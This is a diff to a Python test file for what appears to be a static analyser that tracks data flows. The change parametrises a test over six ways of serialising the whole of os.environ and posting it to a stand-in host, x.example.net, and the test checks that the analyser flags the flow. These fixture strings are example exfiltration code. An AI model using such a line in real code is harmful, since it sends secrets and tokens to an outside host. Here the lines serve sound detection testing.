@@ -49,9 +49,13 @@ def test_env_var_through_a_variable_and_a_dict_into_a_json_body() -> None:
     assert flow.origin == ""
 
 
-def test_the_whole_environment_posted() -> None:
-    source = ("import os, requests\n"
-              "requests.post('https://x.example.net/a', json=dict(os.environ))\n")
+@pytest.mark.parametrize("whole", [
+    "dict(os.environ)", "json.dumps(os.environ)", "{**os.environ}", "os.environ.copy()",
+    "[f'{k}={v}' for k, v in os.environ.items()]", "str(os.environ)",
+])
+def test_the_whole_environment_posted(whole: str) -> None:
+    source = ("import json, os, requests\n"
+              f"requests.post('https://x.example.net/a', json={whole})\n")
     assert flows(source) == {("env.read(*)", 2, "net.connect(x.example.net)", 2, ())}
 
 
